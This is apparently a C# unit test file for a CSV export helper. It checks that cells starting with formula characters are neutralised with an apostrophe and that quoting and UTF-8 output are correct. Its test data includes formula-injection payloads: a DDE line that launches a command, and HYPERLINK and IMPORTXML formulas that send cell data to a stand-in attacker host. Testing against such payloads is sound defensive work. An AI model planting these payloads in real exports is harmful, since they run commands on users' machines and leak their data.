using System.Text;
using CantonRobotics.Hosting;
using CsCheck;
using Sylvan.Data.Csv;

namespace CantonRobotics.Tests.Hosting;

public sealed class CsvTextTests
{
    public static TheoryData<string> Formulas =>
    [
        "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example?\"&A1,\"see\")", "=IMPORTXML(CONCAT(\"https://evil.example\",A1),\"//a\")",
        "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", " =1+1", "   +1+1", "\u00a0=1+1", "\u3000=1+1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "\u001f=1+1",
        "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "\u3000＝1+1", "\tplain", "\rplain", "\0plain", "-", "=",
    ];

    public static TheoryData<string?, string> Plain => new()
    {
        { null, "" }, { "", "" }, { "Unitree Robotics", "Unitree Robotics" }, { "宇树科技", "宇树科技" }, { "a,b", "\"a,b\"" }, { "say \"so\"", "\"say \"\"so\"\"\"" },
        { "two\r\nlines", "\"two\r\nlines\"" }, { "1=1", "1=1" }, { "a@example.com", "a@example.com" }, { "'quoted'", "'quoted'" }, { " led by a space", "\" led by a space\"" }, { "a;b", "\"a;b\"" },
    };

    [Theory, MemberData(nameof(Formulas))]
    public void Formula_BecomesText(string formula)
    {
        var read = ReadBack(CsvText.Row(formula, "next"));

        Assert.Equal([$"'{formula}", "next"], read);
    }

    [Theory, MemberData(nameof(Plain))]
    public void Text_StaysAsItIs_QuotedWhereItMustBe(string? text, string cell) => Assert.Equal(cell, CsvText.Cell(text));

    [Fact]
    public void File_IsUtf8WithTheMark_AndRowsEndAsTheRfcSays() => Assert.Equal(
        [0xEF, 0xBB, 0xBF, .. Encoding.UTF8.GetBytes("名称,note\r\n\"a,b\",\r\n")], CsvText.File([["名称", "note"], ["a,b", null]]));

    [Fact]
    public void AnyText_IsReadBack_AndNeverBeginsAFormula() => Gen.String[Gen.Char["=+-@\t\r\n\0＝＋－＠ \u3000\u200b\"',;ab中"], 0, 12].Sample(text =>
    {
        var read = ReadBack(CsvText.Row("first", text, "last"));

        return read.Length == 3 && read[1].TrimStart('\'') == text.TrimStart('\'') && !CsvText.IsFormula(read[1]);
    });

    private static string[] ReadBack(string csv)
    {
        using var reader = CsvDataReader.Create(new StringReader(csv), new CsvDataReaderOptions { HasHeaders = false, Delimiter = ',', Comment = '\u0001' });
        Assert.True(reader.Read());
        return [.. Enumerable.Range(0, reader.RowFieldCount).Select(reader.GetString)];
    }
}
